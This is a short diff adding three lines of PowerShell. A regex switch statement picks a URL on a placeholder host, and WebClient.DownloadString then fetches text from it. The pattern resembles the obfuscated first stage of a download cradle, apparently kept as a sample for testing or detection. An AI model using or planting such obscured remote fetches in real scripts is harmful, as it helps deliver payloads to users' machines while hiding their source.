@@ -1,0 +1,3 @@
+switch -regex ('abc'){'^b'{$u='no'} 'c$'{$u='http://a.example/p/x.txt'}}
+$wc = New-Object System.Net.WebClient
+$wc.DownloadString($u)
